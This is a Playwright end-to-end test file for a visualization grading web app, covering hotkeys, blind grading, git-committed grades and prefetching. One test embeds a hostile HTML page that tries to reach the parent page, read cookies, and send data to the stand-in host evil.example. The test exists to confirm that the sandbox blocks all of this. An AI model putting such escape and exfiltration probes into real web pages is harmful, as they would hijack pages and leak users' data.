"""The grader driven end to end in the real Chromium: keys, hotkeys, submit, git, blind mode,
and a hostile visualization that must reach neither the grader page nor the network."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.test_grader_app import MODELS, copy_project, git, grading_template, write_output  # noqa: F401 (fixture)
from vizhub_pipeline.core.layout import Layout
from vizhub_pipeline.grading.loading import load_grades

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs a Chromium (set up with `make setup`)")


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield browser
        browser.close()


class Traffic:
    """Every request the browser makes; any request to a host other than 127.0.0.1 is aborted."""

    def __init__(self, context):
        self.requests: list[tuple[str, str]] = []  # (url, url of the frame that made it)
        self.outside: list[str] = []
        self.failures: dict[str, str] = {}
        self.finished: list[str] = []
        context.on("request", self._seen)
        context.on("requestfailed", lambda request: self.failures.__setitem__(request.url, request.failure or ""))
        context.on("requestfinished", lambda request: self.finished.append(request.url))
        context.route("**/*", self._route)

    def _seen(self, request):
        try:
            frame = request.frame.url
        except Exception:  # service worker or gone frame
            frame = ""
        self.requests.append((request.url, frame))

    def _route(self, route):
        host = urlsplit(route.request.url).hostname
        if host == "127.0.0.1":
            route.continue_()
        else:
            self.outside.append(route.request.url)
            route.abort()


@pytest.fixture
def session(tmp_path, browser, grading_template):  # noqa: F811 (the fixture imported above)
    """A real grader on free ports over a project in git, and a fresh browser context."""
    from vizhub_pipeline.grading.web.server import build_server

    started = []

    def start(grader="alice", blind=True, before_start=None, before_build=None):
        layout = copy_project(grading_template, tmp_path / f"project-{len(started)}")
        if before_build:
            before_build(layout)
        server, warnings = build_server(layout, grader, blind=blind)
        if before_start:
            before_start(layout, server)
        server.start()
        started.append(server)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        traffic = Traffic(context)
        page = context.new_page()
        page.set_default_timeout(10_000)
        return layout, server, page, traffic

    yield start
    for server in started:
        server.stop()


def api_items(page, server) -> list[dict]:
    return page.request.get(f"{server.url}/api/items").json()["items"]


def test_grade_with_the_keyboard_then_check_the_csv_and_the_commit(session):
    import pygit2

    from vizhub_pipeline.grading.loading import load_grades
    from vizhub_pipeline.grading.names import grade_file_path

    layout, server, page, traffic = session()
    items = api_items(page, server)
    first, second = items[0]["id"], items[1]["id"]
    page.goto(f"{server.url}/")
    page.wait_for_url(f"{server.url}/item/{first}")
    # blind: no model name anywhere on the page
    assert page.locator("#model-hidden").is_visible()
    content = page.content()
    assert not any(model in content for model in MODELS)
    # the live view renders the output inside the sandbox
    # arrows move between items
    page.keyboard.press("ArrowRight")
    page.wait_for_url(f"{server.url}/item/{second}")
    page.keyboard.press("ArrowLeft")
    page.wait_for_url(f"{server.url}/item/{first}")
    # hotkeys score; Shift+digit is aesthetics
    page.keyboard.press("4")
    page.keyboard.press("Shift+Digit2")
    assert page.locator('input[name="functionality"][value="4"]').is_checked()
    assert page.locator('input[name="aesthetics"][value="2"]').is_checked()
    assert page.locator("#functionality-text").text_content().startswith("4: ")
    # N focuses the notes; digits typed there are text, Shift+Enter is a new line
    page.keyboard.press("n")
    assert page.evaluate("document.activeElement.id") == "notes"
    page.keyboard.type("Bars fine, 5 colours")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("tooltip missing")
    assert page.locator('input[name="functionality"][value="4"]').is_checked()
    assert page.locator("#notes").input_value() == "Bars fine, 5 colours\ntooltip missing"
    # Enter submits and moves on to the next ungraded item; blind, the banner names no model
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/item/{second}")
    flash = page.locator("#flash")
    assert flash.is_visible()

    grades = load_grades(layout)
    assert len(grades) == 1
    grade = grades[0]
    assert (grade.functionality, grade.aesthetics, grade.grader) == (4, 2, "alice")
    assert grade.notes == "Bars fine, 5 colours\ntooltip missing"
    assert grade.model in MODELS and flash.text_content().startswith(f"Saved {grade.challenge} (commit ")
    assert not any(model in flash.text_content() for model in MODELS)
    assert (grade.challenge, grade.model) == (items[0]["challenge"], grade.model)
    path = grade_file_path(layout, "alice")
    assert path.is_file()
    relative = path.relative_to(layout.root).as_posix()
    # committed: HEAD holds the file as it is on disk, and only that file changed
    repo = pygit2.Repository(str(layout.root))
    head = repo.head.peel(pygit2.Commit)
    assert repo[head.tree[relative].id].data == path.read_bytes()
    assert git(layout.root, "show", "--name-only", "--format=", "HEAD").split() == [relative]
    assert git(layout.root, "status", "--porcelain").strip() == ""
    assert len(git(layout.root, "log", "--format=%H").split()) == 2

    # back on the graded item, the model is revealed and the earlier grade is shown
    page.keyboard.press("ArrowLeft")
    page.wait_for_url(f"{server.url}/item/{first}")
    assert page.locator("#model-name").text_content() == grade.model
    assert "functionality 4, aesthetics 2" in page.locator("#earlier-grade").text_content()
    assert page.locator('input[name="functionality"][value="4"]').is_checked()
    # U jumps to the next ungraded item
    page.keyboard.press("u")
    page.wait_for_url(f"{server.url}/item/{second}")
    # submitting without both scores asks for them and saves nothing
    page.keyboard.press("3")
    page.keyboard.press("Enter")
    assert "Give both scores first" in page.locator("#form-message").text_content()
    assert len(load_grades(layout)) == 1
    # the help overlay lists the keys
    page.keyboard.press("?")
    assert page.locator("#help").is_visible()
    page.keyboard.press("Escape")
    assert not page.locator("#help").is_visible()
    assert traffic.outside == []


def test_live_view_and_challenge_filter_without_blind(session):
    layout, server, page, traffic = session(blind=False)
    page.goto(f"{server.url}/")
    # not blind: models in order and named from the start
    assert page.locator("#model-name").text_content() == "baseline/reference"
    page.locator("#challenge-select").select_option("barsTwo")
    page.wait_for_url(f"{server.url}/item/*?challenge=barsTwo")
    assert page.locator("#position").text_content() == "1 / 3"
    assert page.locator("#challenge-title").text_content() == "Bars two"
    # the reference output draws its bars with the local copy of D3, inside the sandbox
    frame = page.frame_locator("#live")
    frame.locator("rect.bar").first.wait_for()
    assert frame.locator("rect.bar").count() == 3
    assert page.locator("#live").get_attribute("sandbox") == "allow-scripts allow-same-origin"
    assert any("/lib/cdn.jsdelivr.net/npm/d3@7" in url for url, _ in traffic.requests)
    assert traffic.outside == []


HOSTILE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>innocent bars</title></head>
<body><pre id="out">running</pre>
<script>
const results = {};
function note(key, value) {
  results[key] = value;
  document.getElementById("out").textContent = JSON.stringify(results);
}
function attempt(key, action) { try { action(); note(key, "done"); } catch (error) { note(key, "blocked"); } }
attempt("parentDom", () => { window.parent.document.body.innerHTML = "<h1>pwned</h1>"; });
attempt("topDom", () => { window.top.document.getElementById("grader-name").textContent = "pwned"; });
attempt("cookie", () => {
  if (!document.cookie.length) { throw new Error("nothing"); }
  window.stolen = document.cookie;
});
note("storageBefore", window.localStorage.getItem("x") || "empty");
attempt("storage", () => { window.localStorage.setItem("x", "1"); });
attempt("popup", () => { if (!window.open("https://evil.example/popup")) { throw new Error("no popup"); } });
attempt("topNavigation", () => { window.top.location = "https://evil.example/navigated"; });
new Image().src = "https://evil.example/pixel.png";
const probes = {
  outside: () => fetch("https://evil.example/steal"),
  beacon: () => navigator.sendBeacon("https://evil.example/beacon", "x") ? Promise.resolve() : Promise.reject(),
  appRead: () => fetch("APP_ORIGIN/api/items").then(r => r.text()),
  appWrite: () => fetch("APP_ORIGIN/api/grades", {method: "POST", headers: {"Content-Type": "text/plain"}, body: "{}"}),
};
Promise.all(Object.entries(probes).map(([key, probe]) => {
  let run;
  try { run = Promise.resolve(probe()); } catch (error) { run = Promise.reject(error); }
  return run.then(() => note(key, "done"), () => note(key, "blocked"));
})).then(() => { document.body.dataset.done = "yes"; });
</script></body></html>
"""


@pytest.mark.hostile(area="grader", guards="escape", outcome="held")
def test_hostile_visualization_reaches_neither_the_grader_nor_the_network(session):
    def plant(layout: Layout, server):
        files = {"index.html": HOSTILE.replace("APP_ORIGIN", server.url), "data.csv": "name,value\na,1\n"}
        write_output(layout, "barsOne", "evil/model", files)

    layout, server, page, traffic = session(blind=False, before_start=plant)
    page.context.add_cookies([{"name": "grader_session", "value": "s3cret", "url": server.url}])
    hostile = next(item for item in api_items(page, server) if item["model"] == "evil/model")
    url = f"{server.url}/item/{hostile['id']}"
    page.goto(url)
    frame = page.frame_locator("#live")
    frame.locator("body[data-done=yes]").wait_for()
    page.wait_for_timeout(300)  # let any late navigation or request happen
    results = json.loads(frame.locator("#out").text_content())
    # a beacon is queued (true) before the policy drops it, and a top navigation may be
    # refused silently: both are checked on the network and on the page below
    must_fail = ("parentDom", "topDom", "cookie", "popup", "outside", "appRead", "appWrite")
    assert {key: results.get(key) for key in must_fail} == dict.fromkeys(must_fail, "blocked")
    assert set(results) == set(must_fail) | {"beacon", "topNavigation", "storage", "storageBefore"}
    # the frame is credentialless: its storage is its own and gone with the page (a reload
    # starts empty), and the grader's cookies are not visible in it
    assert (results["storage"], results["storageBefore"]) == ("done", "empty")
    page.reload()
    frame.locator("body[data-done=yes]").wait_for()
    assert json.loads(frame.locator("#out").text_content())["storageBefore"] == "empty"
    # the grader page is untouched and still where it was
    assert page.url == url
    assert page.locator("#grader-name").text_content() == "alice"
    assert page.locator("h1").all_text_contents() == ["Bars one (barsOne)"]
    assert page.locator("#grade-form").count() == 1
    assert page.locator("#model-name").text_content() == "evil/model"
    # nothing left 127.0.0.1, no popup opened, and the page never reached the grader's origin
    assert traffic.outside == []
    # a request the page's policy stops shows up as a request that failed with "csp" and never
    # reached the network (the route), nor finished
    foreign = [url for url, _ in traffic.requests if urlsplit(url).hostname != "127.0.0.1"]
    assert {url: traffic.failures.get(url) for url in foreign} == dict.fromkeys(foreign, "csp")
    assert not [url for url in traffic.finished if urlsplit(url).hostname != "127.0.0.1"]
    assert page.context.pages == [page]  # no popup
    sandbox_frames = [(req, frame) for req, frame in traffic.requests if frame.startswith(server.sandbox_url)]
    assert sandbox_frames, "the hostile page did not load"
    assert not [req for req, _ in sandbox_frames if req.startswith(server.url)]
    assert not layout.grades.exists() or not any(layout.grades.iterdir())


def test_skip_flag_and_the_session_summary_after_the_last_item(session, tmp_path):
    layout, server, page, traffic = session()  # blind
    page.set_viewport_size({"width": 1440, "height": 900})
    items = page.request.get(f"{server.url}/api/items?challenge=barsOne").json()["items"]
    first, second, third = (item["id"] for item in items)
    page.goto(f"{server.url}/?challenge=barsOne")
    page.wait_for_url(f"{server.url}/item/{first}?challenge=barsOne")
    # F flags the item (the button shows it), S skips to the next one without grading
    page.keyboard.press("f")
    assert page.locator("#flag-button").get_attribute("aria-pressed") == "true"
    page.keyboard.press("s")
    page.wait_for_url(f"{server.url}/item/{second}?challenge=barsOne")
    assert page.locator("#flag-button").get_attribute("aria-pressed") == "false"
    # the buttons do the same as the keys: flag and unflag this one
    page.locator("#flag-button").click()
    page.locator("#flag-button").click()
    assert page.locator("#flag-button").get_attribute("aria-pressed") == "false"
    page.locator("h1").click()  # Enter on a focused button presses that button
    page.keyboard.press("3")
    page.keyboard.press("Shift+Digit3")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/item/{third}?challenge=barsOne")
    assert not any(model in page.locator("#flash").text_content() for model in MODELS)
    assert page.locator("#summary").is_hidden()
    # the last item: submitting sums the session up instead of moving on
    page.keyboard.press("4")
    page.keyboard.press("Shift+Digit4")
    page.keyboard.press("Enter")
    page.locator("#summary").wait_for()
    assert page.url == f"{server.url}/item/{third}?challenge=barsOne"
    assert page.locator("#summary-graded").text_content() == "2"
    assert page.locator("#summary-skipped").text_content() == "1"
    assert page.locator("#summary-flagged").text_content() == "1"
    assert re.fullmatch(r"\d+:\d\d", page.locator("#summary-time").text_content())
    assert page.locator("#summary-flags a").all_text_contents() == ["barsOne, item 1 of 3"]
    assert page.locator("#summary-flags a").get_attribute("href") == f"/item/{first}?challenge=barsOne"
    assert page.locator("#summary-next").get_attribute("href") == f"/item/{first}?challenge=barsOne"
    assert "current grade for 2 of 3 items here; 1 left" in page.locator("#summary-left").text_content()
    assert page.locator("#progress-mine").text_content() == "2"  # the counters are not stale
    message = page.locator("#form-message").text_content()
    assert message.startswith("Saved barsOne (commit ") and not any(model in message for model in MODELS)
    assert len(load_grades(layout)) == 2
    # at 1440x900, as a grader sees it (VIZHUB_SCREENSHOTS=<folder> keeps the PNG to look at)
    import os

    folder = Path(os.environ.get("VIZHUB_SCREENSHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(folder / "grader-session-summary.png"))
    assert traffic.outside == []


def test_not_blind_the_banner_names_the_model_just_graded(session):
    layout, server, page, traffic = session(blind=False)
    page.goto(f"{server.url}/")
    page.keyboard.press("2")
    page.keyboard.press("Shift+Digit2")
    page.keyboard.press("Enter")
    page.locator("#flash").wait_for()
    graded = load_grades(layout)[0]
    assert f"Saved {graded.challenge}: that was {graded.model}" in page.locator("#flash").text_content()


def usable(page, item_id: str) -> None:
    """Wait until the grading page says this item is usable: bound to its keys, its live frame loaded."""
    page.wait_for_function("id => document.documentElement.dataset.usable === id", arg=item_id)


def prefetched(page, *urls: str) -> None:
    """Wait until the page has prefetched each of these item URLs."""
    page.wait_for_function(
        "urls => urls.every(url => (document.documentElement.dataset.prefetched || '').split(' ').includes(url))",
        arg=list(urls),
    )


def long_prompts(layout: Layout) -> None:
    """Prompts as long as the longest real ones (60 hard-wrapped lines)."""
    for challenge in ("barsOne", "barsTwo"):
        lines = [
            f"- Requirement {index}: the bars and their axis labels, written out at some length" for index in range(60)
        ]
        (layout.challenge_dir(challenge) / "prompt.md").write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_the_prompt_is_pinned_beside_the_live_chart_and_the_choice_is_remembered(session):
    layout, server, page, traffic = session(before_build=long_prompts)
    page.set_viewport_size({"width": 1440, "height": 900})
    page.goto(f"{server.url}/")
    prompt = page.locator("#prompt .prompt-text")
    # pinned by default, and the whole live chart stays in view at 1440x900, beside the prompt
    assert prompt.is_visible() and "Requirement 59" in prompt.text_content()
    frame = page.locator("#live").bounding_box()
    assert frame["y"] + frame["height"] <= 900
    assert frame["x"] + frame["width"] <= page.locator("#prompt").bounding_box()["x"]
    # a long prompt scrolls in its panel, and the grade form below it stays in view
    submit = page.locator("#submit").bounding_box()
    assert submit["y"] + submit["height"] <= 900
    assert page.locator("#prompt-body").evaluate("body => body.scrollHeight > body.clientHeight")
    # P folds it (the button says what it does), and the choice outlives a reload and the next item
    page.keyboard.press("p")
    assert prompt.is_hidden()
    assert page.locator("#prompt [data-pin-toggle]").text_content() == "show"
    page.reload()
    assert page.locator("#prompt .prompt-text").is_hidden()
    page.keyboard.press("ArrowRight")
    page.wait_for_url(re.compile(r"/item/"))
    page.locator("#prompt [data-pin-toggle]").click()
    assert page.locator("#prompt .prompt-text").is_visible()
    page.reload()
    assert page.locator("#prompt .prompt-text").is_visible()
    assert traffic.outside == []


def big_screenshots(layout: Layout, server) -> None:
    """Screenshots of the size the screenshot stage takes (the challenge's viewport, 800x600)."""
    from tests.test_grader_app import tiny_png

    folder = layout.render_dir("barsOne", "baseline/reference")
    (folder / "screenshot.png").write_bytes(tiny_png(800, 600))
    (folder / "screenshot-hover-first-bar.png").write_bytes(tiny_png(800, 600))


def test_screenshots_are_readable_and_open_in_a_viewer_that_keeps_the_keys(session):
    layout, server, page, traffic = session(blind=False, before_start=big_screenshots)
    page.set_viewport_size({"width": 1440, "height": 900})
    page.goto(f"{server.url}/")  # not blind: baseline/reference of barsOne first, the item with a render
    assert page.locator("#model-name").text_content() == "baseline/reference"
    shots = page.locator(".shots img")
    assert shots.count() == 2
    shots.first.scroll_into_view_if_needed()
    page.wait_for_function("() => [...document.querySelectorAll('.shots img')].every(img => img.complete)")
    # shown at their own size (one screen pixel per pixel), not as thumbnails
    assert [round(shots.nth(index).bounding_box()["width"]) for index in range(2)] == [802, 802]  # with the border
    # a click opens the viewer; the arrows move between the shots; grading keys do nothing while it is open
    shots.first.click()
    viewer = page.locator("#shot-viewer")
    assert viewer.is_visible()
    assert viewer.locator(".shot-count").text_content() == "1 / 2"
    first_src = viewer.locator("img").get_attribute("src")
    page.keyboard.press("ArrowRight")
    assert viewer.locator(".shot-count").text_content() == "2 / 2"
    assert viewer.locator("img").get_attribute("src").endswith("/screenshot-hover-first-bar.png")
    assert viewer.locator(".shot-caption").text_content() == page.locator(".shots figcaption").nth(1).text_content()
    page.keyboard.press("ArrowRight")  # round to the first
    assert viewer.locator("img").get_attribute("src") == first_src
    page.keyboard.press("3")
    page.keyboard.press("Enter")
    assert page.url.endswith(page.evaluate("JSON.parse(document.getElementById('grader-data').textContent).url"))
    assert not page.locator('input[name="functionality"]:checked').count()
    # the image is at full size in the viewer
    assert viewer.locator("img").evaluate("img => [img.naturalWidth, img.getBoundingClientRect().width]") == [800, 800]
    page.keyboard.press("Escape")
    assert viewer.is_hidden()
    page.keyboard.press("3")
    assert page.locator('input[name="functionality"][value="3"]').is_checked()
    # Enter on a focused screenshot opens the viewer too (and does not submit)
    page.locator(".shots a").nth(1).focus()
    page.keyboard.press("Enter")
    assert viewer.is_visible() and viewer.locator(".shot-count").text_content() == "2 / 2"
    page.keyboard.press("Escape")
    assert load_grades(layout) == []
    # the review page has the same viewer
    page.goto(f"{server.url}/review/barsOne/baseline__reference")
    page.locator(".shots a").nth(1).click()
    assert page.locator("#shot-viewer .shot-count").text_content() == "2 / 2"
    page.keyboard.press("Escape")
    assert page.locator("#shot-viewer").is_hidden()
    assert traffic.outside == []


def test_after_a_click_into_the_live_chart_the_keys_are_shown_paused_then_come_back(session):
    layout, server, page, traffic = session(blind=False)
    page.set_viewport_size({"width": 1440, "height": 900})
    page.goto(f"{server.url}/")
    frame = page.frame_locator("#live")
    frame.locator("rect.bar").first.wait_for()
    paused = page.locator("#keys-paused")
    assert paused.is_hidden()
    # a click into the chart (as a brush or a zoom needs) gives the frame the keyboard: say so
    frame.locator("rect.bar").first.click()
    paused.wait_for()
    page.keyboard.press("2")  # goes to the chart, not to the grade
    assert not page.locator('input[name="functionality"]:checked').count()
    # the pointer back over the page gives the keys back
    box = page.locator("#grade-form").bounding_box()
    page.mouse.move(box["x"] + 10, box["y"] + 10)
    paused.wait_for(state="hidden")
    page.keyboard.press("2")
    assert page.locator('input[name="functionality"][value="2"]').is_checked()
    # again: a click into the chart pauses them, the pointer over the paused bar itself gives them back
    frame.locator("rect.bar").nth(1).click()
    paused.wait_for()
    page.keyboard.press("Shift+Digit4")
    assert not page.locator('input[name="aesthetics"]:checked').count()
    box = paused.bounding_box()
    page.mouse.move(box["x"] + 5, box["y"] + 5)
    paused.wait_for(state="hidden")
    page.keyboard.press("Shift+Digit4")
    assert page.locator('input[name="aesthetics"][value="4"]').is_checked()
    assert traffic.outside == []


def post_grade_as(page, server, item_id: str, score: int) -> None:
    response = page.request.post(
        f"{server.url}/api/grades",
        data=json.dumps({"item": item_id, "functionality": score, "aesthetics": score}),
        headers={"Content-Type": "application/json", "Origin": server.url, "X-Vizhub-Token": server.config.token},
    )
    assert response.ok, response.text()


def test_prefetch_swaps_in_the_right_next_item_in_blind_order_after_skip_submit_and_resume(session):
    layout, server, page, traffic = session()  # blind: the order is drawn for this grader
    items = page.request.get(f"{server.url}/api/items?challenge=barsOne").json()["items"]
    first, second, third = (item["id"] for item in items)
    query = "?challenge=barsOne"
    post_grade_as(page, server, second, 1)  # graded elsewhere: Enter on the first must skip it
    named = {item["id"]: item["model"] for item in api_items(page, server)}
    assert named[second] in MODELS and named[first] is None and named[third] is None  # blind
    # resume: where this grader left off
    page.goto(f"{server.url}/{query}")
    page.wait_for_url(f"{server.url}/item/{first}{query}")
    usable(page, first)
    # Enter leads to the next ungraded item (the third), S to the next one (the second): both prefetched
    prefetched(page, f"/item/{third}{query}", f"/item/{second}{query}")
    page.evaluate("() => { window.stillThisPage = true; }")  # gone if the browser navigates
    page.keyboard.press("s")
    page.wait_for_url(f"{server.url}/item/{second}{query}")
    usable(page, second)
    assert page.evaluate("() => window.stillThisPage === true"), "S navigated instead of swapping the page in"
    assert page.locator("#position").text_content() == "2 / 3"
    assert page.locator("#live").get_attribute("src").endswith(f"/v/{second}/index.html")
    assert page.title().startswith("2/3 ")
    # the second is graded, so it is named; its earlier grade is shown and Enter revises it
    assert page.locator("#model-name").text_content() == named[second]
    assert page.locator('input[name="functionality"][value="1"]').is_checked()
    prefetched(page, f"/item/{third}{query}")

    def third_loads() -> list[str]:
        return [url for url, _ in traffic.requests if url == f"{server.sandbox_url}/v/{third}/index.html"]

    # loaded once, ahead of time, and kept from the first item on (it is where Enter leads from both)
    assert len(third_loads()) == 1
    page.keyboard.press("2")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/item/{third}{query}")
    usable(page, third)
    assert page.evaluate("() => window.stillThisPage === true"), "Enter navigated instead of swapping the page in"
    # blind: the third is not named, nor is the one just graded in the banner
    assert page.locator("#model-hidden").is_visible()
    assert not any(model in page.locator("#page").text_content() for model in MODELS)
    assert page.locator("#flash").text_content().startswith("Saved barsOne (commit ")
    # what the prefetch could not know is brought up to date: the progress, and U leads to the first
    assert page.locator("#progress-mine").text_content() == "1"
    assert page.locator("#progress-all-mine").text_content() == "1"
    assert page.locator("#next-open").get_attribute("href") == f"/item/{first}{query}"
    # the swapped-in frame is the one loaded ahead: not loaded again
    assert len(third_loads()) == 1
    assert page.frame_locator("#live").locator("body").count() == 1
    # the keys work on the swapped-in item: grade it, and the grade is of the third item
    page.keyboard.press("5")
    page.keyboard.press("Shift+Digit5")
    page.keyboard.press("Enter")  # the last item: the summary, no move
    page.locator("#summary").wait_for()
    grades = {(grade.functionality, grade.aesthetics) for grade in load_grades(layout)}
    assert grades == {(1, 1), (2, 1), (5, 5)}
    # back goes to the item before, loaded afresh
    page.go_back()
    page.wait_for_url(f"{server.url}/item/{second}{query}")
    usable(page, second)
    assert page.locator("#position").text_content() == "2 / 3"
    assert traffic.outside == []


def test_arrow_left_swaps_in_the_item_just_left_with_its_frame_kept_and_its_page_fresh(session):
    from vizhub_pipeline.grading.loading import load_grades

    layout, server, page, traffic = session()  # blind
    items = page.request.get(f"{server.url}/api/items?challenge=barsOne").json()["items"]
    first, second = (item["id"] for item in items[:2])
    query = "?challenge=barsOne"
    page.goto(f"{server.url}/item/{first}{query}")
    usable(page, first)
    prefetched(page, f"/item/{second}{query}")
    page.evaluate("() => { window.stillThisPage = true; }")  # gone if the browser navigates
    page.keyboard.press("3")
    page.keyboard.press("Shift+Digit4")
    page.keyboard.press("Enter")  # graded: on to the second, swapped in
    page.wait_for_url(f"{server.url}/item/{second}{query}")
    usable(page, second)
    prefetched(page, f"/item/{first}{query}")  # where ArrowLeft leads

    def loads(item_id: str) -> int:
        return sum(1 for url, _ in traffic.requests if url == f"{server.sandbox_url}/v/{item_id}/index.html")

    page.keyboard.press("ArrowLeft")
    page.wait_for_url(f"{server.url}/item/{first}{query}")
    usable(page, first)
    assert page.evaluate("() => window.stillThisPage === true"), "ArrowLeft navigated instead of swapping"
    # the page is as it is now, after the grade: the grade shown, and (graded) the model named
    assert page.locator('input[name="functionality"][value="3"]').is_checked()
    assert page.locator('input[name="aesthetics"][value="4"]').is_checked()
    assert page.locator("#model-name").text_content() == load_grades(layout)[0].model
    # the live frame is the one kept from before: loaded once, whole, and the one live frame on the page
    assert loads(first) == 1
    assert page.locator("#live").get_attribute("src").endswith(f"/v/{first}/index.html")
    assert page.frame_locator("#live").locator("body").count() == 1
    assert page.locator("iframe#live").count() == 1
    # and back again with ArrowRight: a swap too, the second's frame kept in turn
    prefetched(page, f"/item/{second}{query}")
    page.keyboard.press("ArrowRight")
    page.wait_for_url(f"{server.url}/item/{second}{query}")
    usable(page, second)
    assert page.evaluate("() => window.stillThisPage === true"), "ArrowRight navigated instead of swapping"
    assert loads(second) == 1
    assert page.locator("#live").get_attribute("src").endswith(f"/v/{second}/index.html")
    assert not any(model in page.locator("#page").text_content() for model in MODELS)  # the second: not graded
    assert traffic.outside == []
